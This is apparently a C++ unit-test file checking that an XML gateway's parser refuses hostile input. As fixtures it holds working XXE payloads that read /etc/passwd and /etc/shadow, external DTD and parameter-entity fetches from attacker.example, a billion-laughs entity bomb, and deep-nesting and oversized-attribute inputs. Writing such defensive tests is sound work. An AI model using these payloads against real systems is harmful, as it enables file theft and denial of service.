#include "gateway/core/xml_document.h"

#include <gtest/gtest.h>

#include <chrono>
#include <nlohmann/json.hpp>

using namespace xoev;

TEST(XmlDocument, ParsesAndNavigates) {
  auto doc = XmlDocument::parse(R"(<a:r xmlns:a="urn:x"><h><id> 42 </id></h></a:r>)");
  ASSERT_TRUE(doc.ok());
  EXPECT_EQ(doc->root_namespace(), "urn:x");
  EXPECT_EQ(doc->root_name(), "r");
  EXPECT_EQ(text_of(find_path(doc->root(), "h/id")), "42");
  EXPECT_EQ(element_path(find_path(doc->root(), "h/id")), "/a:r/h/id");
}

TEST(XmlDocument, MalformedGivesLineAndColumn) {
  auto doc = XmlDocument::parse("<a>\n  <b></c>\n</a>");
  ASSERT_FALSE(doc.ok());
  EXPECT_EQ(doc.problem().kind, ProblemKind::malformed_xml);
  ASSERT_TRUE(doc.problem().location.has_value());
  EXPECT_EQ(doc.problem().location->line, 2);
  EXPECT_GT(doc.problem().location->column, 0);
}

TEST(XmlDocument, RefusesDoctypeBeforeEntities) {
  auto doc = XmlDocument::parse(
      "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<r>&x;</r>");
  ASSERT_FALSE(doc.ok());
  EXPECT_NE(doc.problem().detail.find("DOCTYPE"), std::string::npos);
  EXPECT_EQ(doc.problem().detail.find("root:"), std::string::npos);
}

TEST(XmlDocument, EmptyBodyIsMalformed) {
  auto doc = XmlDocument::parse("");
  ASSERT_FALSE(doc.ok());
  EXPECT_EQ(doc.problem().kind, ProblemKind::malformed_xml);
}

// ---- hostile input: every case is refused quickly, with a clear error, no secret ----


namespace {

// Parses and returns the problem, failing the test if it took longer than a second.
Problem refused(const std::string& bytes, size_t max_bytes = 64u << 20) {
  const auto start = std::chrono::steady_clock::now();
  auto doc = XmlDocument::parse(bytes, max_bytes);
  const auto took = std::chrono::steady_clock::now() - start;
  EXPECT_LT(took, std::chrono::seconds(1));
  EXPECT_FALSE(doc.ok());
  return doc.ok() ? Problem{} : doc.problem();
}

}  // namespace

TEST(XmlDocumentHostile, XxeReadingEtcPasswdIsRefusedWithoutTheSecret) {
  const Problem p = refused(
      "<?xml version=\"1.0\"?>\n"
      "<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM \"file:///etc/passwd\" > ]>\n"
      "<foo>&xxe;</foo>\n");
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_EQ(p.http_status(), 400);
  EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos);
  const std::string everything = p.to_json().dump();
  EXPECT_EQ(everything.find("root:"), std::string::npos);
  EXPECT_EQ(everything.find("/bin/"), std::string::npos);
  ASSERT_TRUE(p.location.has_value());
  EXPECT_EQ(p.location->line, 2);
}

TEST(XmlDocumentHostile, ExternalDtdAndParameterEntitiesAreRefused) {
  for (const std::string doctype :
       {"<!DOCTYPE r SYSTEM \"http://attacker.example/evil.dtd\">",
        "<!DOCTYPE r PUBLIC \"-//X//Y\" \"file:///etc/shadow\">",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>"}) {
    const Problem p = refused("<?xml version=\"1.0\"?>\n" + doctype + "\n<r/>");
    EXPECT_EQ(p.kind, ProblemKind::malformed_xml) << doctype;
    EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos) << doctype;
  }
}

TEST(XmlDocumentHostile, BillionLaughsIsRefusedFast) {
  std::string dtd = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
  dtd += " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
  for (int i = 2; i <= 9; ++i) {
    const std::string prev = "&lol" + std::to_string(i - 1) + ";";
    std::string body;
    for (int k = 0; k < 10; ++k) body += prev;
    dtd += " <!ENTITY lol" + std::to_string(i) + " \"" + body + "\">\n";
  }
  dtd += "]>\n<lolz>&lol9;</lolz>\n";
  const Problem p = refused(dtd);
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_NE(p.detail.find("DOCTYPE"), std::string::npos);
  EXPECT_LT(p.to_json().dump().size(), 2000u);  // nothing expanded into the answer
}

TEST(XmlDocumentHostile, DeepNestingIsAClearErrorNotAStackOverflow) {
  const int depth = 100000;
  std::string deep;
  deep.reserve(depth * 7 + 16);
  for (int i = 0; i < depth; ++i) deep += "<a>";
  for (int i = 0; i < depth; ++i) deep += "</a>";
  const Problem p = refused(deep);
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_NE(p.detail.find("depth"), std::string::npos) << p.detail;
  ASSERT_EQ(p.errors.size(), 1u);
  EXPECT_GT(p.errors[0].column, 0);
}

TEST(XmlDocumentHostile, ModerateNestingStillParses) {
  std::string ok;
  for (int i = 0; i < 200; ++i) ok += "<a>";
  for (int i = 0; i < 200; ++i) ok += "</a>";
  EXPECT_TRUE(XmlDocument::parse(ok).ok());
}

TEST(XmlDocumentHostile, InvalidUtf8IsMalformedWithPosition) {
  const Problem p = refused("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r>\n  caf\xC3\x28 \xFF\xFE</r>");
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_NE(p.detail.find("UTF-8"), std::string::npos) << p.detail;
  ASSERT_TRUE(p.location.has_value());
  EXPECT_EQ(p.location->line, 3);
}

TEST(XmlDocumentHostile, EmptyAndWhitespaceBodies) {
  EXPECT_EQ(refused("").kind, ProblemKind::malformed_xml);
  const Problem blank = refused("   \n\t ");
  EXPECT_EQ(blank.kind, ProblemKind::malformed_xml);
  EXPECT_EQ(refused("<?xml version=\"1.0\"?>").kind, ProblemKind::malformed_xml);
}

TEST(XmlDocumentHostile, HugeAttributeIsRefused) {
  // libxml2 caps a single text or attribute value at 10 MB unless XML_PARSE_HUGE is set.
  std::string huge = "<r a=\"";
  huge.append(11u << 20, 'x');
  huge += "\"/>";
  const Problem p = refused(huge);
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_FALSE(p.detail.empty());
  EXPECT_LT(p.to_json().dump().size(), 4096u);  // the value is not echoed
}

TEST(XmlDocumentHostile, SizeLimitBeforeParsing) {
  const Problem p = refused("<r>" + std::string(2000, 'x') + "</r>", 1000);
  EXPECT_EQ(p.kind, ProblemKind::payload_too_large);
  EXPECT_EQ(p.http_status(), 413);
}

TEST(XmlDocumentHostile, BinaryGarbage) {
  std::string bmp = "BM\x36\x00\x0c\x00\x00\x00\x00\x00\x36\x00\x00\x00";
  bmp.append(64, '\0');
  EXPECT_EQ(refused(bmp).kind, ProblemKind::malformed_xml);
}

TEST(XmlDocumentHostile, XIncludeIsNotProcessed) {
  auto doc = XmlDocument::parse(
      "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>");
  ASSERT_TRUE(doc.ok());
  EXPECT_EQ(text_of(doc->root()).find("root:"), std::string::npos);
}

std::string element_with_attributes(size_t count, std::string_view indent = "") {
  std::string xml = "<?xml version=\"1.0\"?>\n<!-- a=1 b=2 -->\n<r>\n" + std::string(indent) + "<e";
  for (size_t i = 0; i < count; ++i) xml += " a" + std::to_string(i) + "=\"v=" + std::to_string(i) + "\"";
  xml += "/></r>";
  return xml;
}

TEST(XmlDocumentHostile, ManyAttributesOnOneElementAreRefusedFastWithPosition) {
  // libxml2 compares attributes pairwise: 200,000 on one element took 66 s unchecked
  // (20,000 still take about a second).
  const auto start = std::chrono::steady_clock::now();
  const Problem p = refused(element_with_attributes(20000, "  "));
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(1));
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_EQ(p.http_status(), 400);
  EXPECT_NE(p.detail.find("more than 256 attributes"), std::string::npos) << p.detail;
  ASSERT_TRUE(p.location);
  EXPECT_EQ(p.location->line, 4);
  EXPECT_EQ(p.location->column, 3);
}

TEST(XmlDocumentHostile, AttributesUpToTheCapStillParse) {
  // '=' inside values, comments and CDATA is not an attribute.
  auto doc = XmlDocument::parse(element_with_attributes(kMaxXmlAttributesPerElement) +
                                "<!--" + std::string(1000, '=') + "-->");
  ASSERT_TRUE(doc.ok()) << doc.problem().one_line();
  std::string with_cdata = "<r><![CDATA[<x " + std::string(1000, '=') + ">]]><?pi " + std::string(1000, '=') + "?></r>";
  EXPECT_TRUE(XmlDocument::parse(with_cdata).ok());
  EXPECT_EQ(refused(element_with_attributes(kMaxXmlAttributesPerElement + 1)).kind, ProblemKind::malformed_xml);
}

TEST(XmlDocumentHostile, DepthLimitHoldsJustAboveLibxmlsBound) {
  // libxml2 without XML_PARSE_HUGE stops at 256 levels; make sure nobody turned it off.
  std::string deep;
  for (int i = 0; i < 300; ++i) deep += "<a>";
  for (int i = 0; i < 300; ++i) deep += "</a>";
  const Problem p = refused(deep);
  EXPECT_EQ(p.kind, ProblemKind::malformed_xml);
  EXPECT_NE(p.detail.find("depth"), std::string::npos) << p.detail;
}
